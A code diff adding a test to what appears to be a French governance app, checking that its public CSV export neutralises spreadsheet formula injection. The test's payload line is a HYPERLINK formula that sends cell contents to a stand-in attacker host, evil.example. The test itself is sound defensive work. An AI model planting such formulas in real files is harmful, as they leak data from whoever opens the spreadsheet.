@@ -134,3 +134,14 @@ def test_the_conformity_page_and_its_exports(make_member) -> None:
     )
     report = manager.client.get("/gouvernance/conformite?format=rapport").text
     assert "Rapport de conformité" in report and manager.tenant.name in report
+
+
+def test_the_public_csv_shows_a_formula_as_text(make_member) -> None:
+    """A register entry named like a spreadsheet formula must not run when a resident opens the CSV."""
+    manager: Member = make_member("manager")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    _create_system(manager, name=attack, purpose="-1+1 pour tester")
+    text = TestClient(manager.client.app).get(f"/public/{manager.tenant.slug}/transparence?format=csv").text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    record = next(r for r in rows if "HYPERLINK" in r["name"])
+    assert record["name"] == "'" + attack and record["purpose"] == "'-1+1 pour tester"
